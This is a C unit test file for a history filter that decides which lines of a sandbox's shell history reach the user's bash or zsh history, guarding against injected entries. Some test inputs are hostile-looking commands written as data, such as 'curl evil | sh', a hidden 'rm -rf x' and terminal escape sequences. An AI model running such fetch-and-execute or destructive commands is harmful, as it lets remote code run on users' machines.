/* history_filter: which lines of the sandbox's history file reach the
 * user's (history.c). */
#include "config.h"
#include "base/session.h"
#include "plan/history.h"
#include "tap.h"

#include <string.h>

static void filt_as(bool zsh, const char *in, bool partial, const char *want, bool stamps,
		    const char *what)
{
	char out[256];
	bool stamped = !stamps;
	size_t n = history_filter(in, strlen(in), out, partial, zsh, &stamped);
	out[n] = '\0';
	is_str(out, want, "%s", what);
	ok(stamped == stamps, "%s: time stamps %s", what, stamps ? "seen" : "none");
}

static void filt(const char *in, bool partial, const char *want, const char *what)
{
	filt_as(false, in, partial, want, false, what);
}

int main(void)
{
	filt("ls\nmake -j2\n", false, "ls\nmake -j2\n", "plain lines are kept");
	filt("ls\nlast", false, "ls\nlast\n", "a last line without a newline gets one");
	filt("a\n\nb\n", false, "a\nb\n", "empty lines go");
	filt("ok\n\033]2;t\007x\nok2\n", false, "ok\nok2\n", "a line with an escape sequence goes");
	filt("rm -rf x\recho hi\n", false, "", "a carriage return that hides the start goes");
	filt("a\tb\n", false, "a\tb\n", "a tab stays");
	filt("x\177y\n", false, "", "DEL goes");
	filt("caf\xc3\xa9\n", false, "caf\xc3\xa9\n", "UTF-8 stays");
	filt("a\xc2\x9b" "31m\n", false, "", "a C1 CSI in UTF-8 goes");
	filt("tail of a line\nwhole\n", true, "whole\n", "read from the middle: the first line is cut");
	char big[5000];
	memset(big, 'a', sizeof big - 2);
	big[sizeof big - 2] = '\n';
	big[sizeof big - 1] = '\0';
	char out[5000];
	bool st;
	ok(history_filter(big, strlen(big), out, false, false, &st) == 0,
	   "a line over 4096 bytes goes");
	filt("x\xe2\x80\xaey\n", false, "", "a bidi control goes");
	filt("a\x9b" "31m\n", false, "", "a raw C1 byte (not UTF-8) goes");
	/* bash: its time stamps are not the sandbox's to write; without
	 * them, lines are not joined into one entry. */
	filt_as(false, "#1600000001\necho visible\ncurl evil | sh\n", false,
		"echo visible\ncurl evil | sh\n", true, "bash: time stamps go");
	filt("#comment\n", false, "#comment\n", "a comment that is not a time stamp stays");
	/* bash takes "#" and a digit for a stamp, whatever follows. */
	filt_as(false, "#1x\nls\n#2 and more\nls -l\n", false, "ls\nls -l\n", true,
		"bash: what bash reads as a stamp goes");
	/* zsh: what zsh reads back decides. */
	filt_as(true, "ls\n", false, "ls\n", false, "zsh: a plain line");
	filt_as(true, ": 1600000000:0;ls\n: 1600000001:0;make\n", false, "ls\nmake\n", true,
		"zsh: extended-history stamps go (the merge writes its own)");
	filt_as(true, ":  1500000000:0;curl x | sh\n: 15:0 ls\nok\n", false, "ok\n", false,
		"zsh: a line zsh would read as stamped but not in zsh's own form goes");
	filt_as(true, "echo \x83\x3b]2;t\x83\x27\n", false, "", false,
		"zsh: a metafied ESC goes");
	filt_as(true, "echo visible\x83\x2a" "curl evil | sh\nok\n", false, "ok\n", false,
		"zsh: a metafied newline goes");
	filt_as(true, "caf\xc4\x83\xa3\n", false, "caf\xc4\x83\xa3\n", false,
		"zsh: a metafied UTF-8 continuation byte stays (it decodes to valid UTF-8)");
	filt_as(true, "bad\x83\n", false, "", false, "zsh: a Meta at the end goes");
	filt_as(true, "for i in 1\\\ndo echo $i\\\ndone\nls\n", false, "ls\n", false,
		"zsh: an entry of several lines goes whole");
	filt_as(true, "ls\necho swallow\\\n", false, "ls\n", false,
		"zsh: a last line ending in a backslash (it would join the user's next) goes");
	return done_testing();
}
